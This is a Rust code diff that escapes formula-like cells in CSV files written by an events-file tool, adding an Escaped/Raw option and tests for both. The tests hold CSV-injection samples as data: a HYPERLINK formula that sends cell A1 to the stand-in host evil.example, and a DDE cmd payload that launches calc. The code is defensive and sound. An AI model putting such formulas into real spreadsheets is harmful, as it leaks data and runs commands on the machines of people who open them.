@@ -11,6 +11,7 @@ use almanac_core::domain::{Generated, RowId};
 use almanac_core::output::HEADERS;
 
 use crate::atomic::write_atomic;
+use crate::formula::CsvCells;
 use crate::scan::scan;
 use crate::source::{Raw, Source};
 use crate::types::{Fields, FileError, FileRow, Format, err};
@@ -99,7 +100,8 @@ impl EventsFile {
 
     /// Builds a file from sheet rows (the first row is the header), as `sheet pull` saves them.
     /// Columns without a header name are dropped; rows with an empty id are kept in CSV and left
-    /// out of JSON (an object needs a key).
+    /// out of JSON (an object needs a key). In CSV every cell (from someone's sheet) is written
+    /// by `cells`; JSON values are the sheet's.
     ///
     /// # Errors
     /// [`FileError`] when the header has no `id` or `title`, or an id is used twice.
@@ -107,6 +109,7 @@ impl EventsFile {
         path: &Path,
         format: Format,
         grid: &[Vec<String>],
+        cells: CsvCells,
     ) -> Result<EventsFile, FileError> {
         let header: Vec<String> = grid.first().cloned().unwrap_or_default();
         let width = header
@@ -141,8 +144,9 @@ impl EventsFile {
         }
         let mut file = EventsFile::scan(path, Source::Bytes(path, out.as_bytes()), Format::Csv)?;
         file.bom = false;
-        if format == Format::Json {
-            file.convert_to_json_object();
+        match format {
+            Format::Json => file.convert_to_json_object(),
+            Format::Csv => file.apply_to_csv_cells(cells),
         }
         Ok(file)
     }
@@ -154,8 +158,15 @@ impl EventsFile {
 
     /// Sets the answers into the output columns, by id. A cell that already holds text is kept
     /// unless `overwrite`. CSV files without some output columns get them appended to the header;
-    /// JSON entries without an output field get it appended.
-    pub fn merge(&mut self, answers: &[(RowId, Generated)], overwrite: bool) -> MergeReport {
+    /// JSON entries without an output field get it appended. In a CSV file an answer is written by
+    /// `cells` (escaped when it looks like a formula, or raw); every other cell stays as the file
+    /// had it, and JSON values are never changed.
+    pub fn merge(
+        &mut self,
+        answers: &[(RowId, Generated)],
+        overwrite: bool,
+        cells: CsvCells,
+    ) -> MergeReport {
         let mut report = MergeReport::default();
         let index: std::collections::HashMap<&str, usize> =
             self.rows.iter().map(|r| (r.id.as_str(), r.index)).collect();
@@ -184,7 +195,7 @@ impl EventsFile {
                 if !overwrite && !current.trim().is_empty() {
                     continue;
                 }
-                self.set(i, HEADERS[k], value);
+                self.set(i, HEADERS[k], value, cells);
                 self.rows[i].outputs[k] = (*value).to_owned();
                 written += 1;
             }
@@ -198,18 +209,29 @@ impl EventsFile {
         report
     }
 
-    fn set(&mut self, index: usize, field: &str, value: &str) {
+    fn set(&mut self, index: usize, field: &str, value: &str, cells: CsvCells) {
         match &mut self.body {
             Body::Csv { headers, records } => {
                 if let Some(col) = headers
                     .iter()
                     .position(|h| h.trim().eq_ignore_ascii_case(field))
                 {
-                    records[index][col] = value.to_owned();
+                    records[index][col] = cells.apply(value).into_owned();
                 }
             }
             Body::JsonObject(entries) => set_field(&mut entries[index].1, field, value),
             Body::JsonArray(entries) => set_field(&mut entries[index], field, value),
+        }
+    }
+
+    /// Writes every cell of a CSV body, the header's too, by `cells`.
+    fn apply_to_csv_cells(&mut self, cells: CsvCells) {
+        if let Body::Csv { headers, records } = &mut self.body {
+            for cell in headers.iter_mut().chain(records.iter_mut().flatten()) {
+                if let std::borrow::Cow::Owned(escaped) = cells.apply(cell) {
+                    *cell = escaped;
+                }
+            }
         }
     }
 
@@ -364,12 +386,72 @@ mod tests {
         );
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[1].line, 3);
-        let report = file.merge(&[answer("1"), answer("2")], false);
+        let report = file.merge(&[answer("1"), answer("2")], false, CsvCells::Escaped);
         assert_eq!(report.rows_written, 2);
         assert_eq!(
             file.render(),
             "id,title,year,note,content_simple,content_detailed,related_movies\n1,One,1945,keep me,s 1,\"d, with \"\"quotes\"\"\",m\n2,Two,1999,x,s 2,\"d, with \"\"quotes\"\"\",m\n"
         );
+    }
+
+    #[test]
+    fn formula_like_answers_merged_into_a_csv_are_escaped_unless_raw_and_the_files_cells_kept() {
+        let evil = || {
+            let mut evil = answer("1");
+            evil.1.simple = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+            evil.1.year = "-500".into();
+            evil
+        };
+        let read = || {
+            let (dir, path) = write("a.csv", b"id,title,note\n1,-50 degrees,=1+1\n2,Two,x\n");
+            (dir, EventsFile::read(&path).unwrap())
+        };
+        let (_d, mut file) = read();
+        file.merge(&[evil(), answer("2")], true, CsvCells::Escaped);
+        let escaped = file.render();
+        let mut lines = escaped.lines().skip(1);
+        assert_eq!(
+            lines.next().unwrap(),
+            "1,-50 degrees,=1+1,'-500,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\"d, with \"\"quotes\"\"\",m",
+            "the answers escaped, the file's own cells as they were"
+        );
+        assert_eq!(
+            lines.next().unwrap(),
+            "2,Two,x,1945,s 2,\"d, with \"\"quotes\"\"\",m"
+        );
+        let (_d, mut file) = read();
+        file.merge(&[evil()], true, CsvCells::Raw);
+        assert!(
+            file.render()
+                .contains("1,-50 degrees,=1+1,-500,\"=HYPERLINK("),
+            "{}",
+            file.render()
+        );
+
+        let (_d, path) = write("a.json", b"[{\"id\": \"1\", \"title\": \"=One\"}]");
+        let mut file = EventsFile::read(&path).unwrap();
+        file.merge(&[evil()], true, CsvCells::Escaped);
+        let json: Value = serde_json::from_str(&file.render()).unwrap();
+        assert_eq!(json[0]["year"], "-500", "JSON is unchanged");
+        assert_eq!(json[0]["content_simple"], evil().1.simple);
+    }
+
+    #[test]
+    fn a_sheet_saved_as_csv_has_every_formula_like_cell_escaped_unless_raw() {
+        let grid: Vec<Vec<String>> = [["id", "title"], ["-1", "=cmd|' /C calc'!A0"]]
+            .iter()
+            .map(|r| r.iter().map(|c| (*c).to_owned()).collect())
+            .collect();
+        let dir = tempfile::tempdir().unwrap();
+        let csv = dir.path().join("s.csv");
+        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Escaped).unwrap();
+        assert_eq!(file.render(), "id,title\n'-1,'=cmd|' /C calc'!A0\n");
+        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Raw).unwrap();
+        assert_eq!(file.render(), "id,title\n-1,=cmd|' /C calc'!A0\n");
+        let json = dir.path().join("s.json");
+        let file = EventsFile::from_grid(&json, Format::Json, &grid, CsvCells::Escaped).unwrap();
+        let doc: Value = serde_json::from_str(&file.render()).unwrap();
+        assert_eq!(doc["-1"]["title"], "=cmd|' /C calc'!A0");
     }
 
     #[test]
@@ -380,7 +462,7 @@ mod tests {
         );
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[1].line, 3);
-        file.merge(&[answer("b")], false);
+        file.merge(&[answer("b")], false, CsvCells::Escaped);
         let out = file.render();
         assert!(
             out.find("\"b\"").unwrap() < out.find("\"a\"").unwrap(),
@@ -398,7 +480,7 @@ mod tests {
             b"[{\"id\": \"x\", \"title\": \"X\", \"extra\": 3}, {\"id\": \"y\", \"title\": \"Y\"}]",
         );
         let mut file = EventsFile::read(&path).unwrap();
-        file.merge(&[answer("y")], false);
+        file.merge(&[answer("y")], false, CsvCells::Escaped);
         let back: Value = serde_json::from_str(&file.render()).unwrap();
         assert_eq!(
             back[0],
@@ -409,7 +491,7 @@ mod tests {
         let (_d, path) = write("b.csv", "\u{feff}id,title\n1,가\n".as_bytes());
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[0].id, "1");
-        file.merge(&[answer("1")], false);
+        file.merge(&[answer("1")], false, CsvCells::Escaped);
         assert!(file.render().starts_with("\u{feff}id,title,year,"));
     }
 
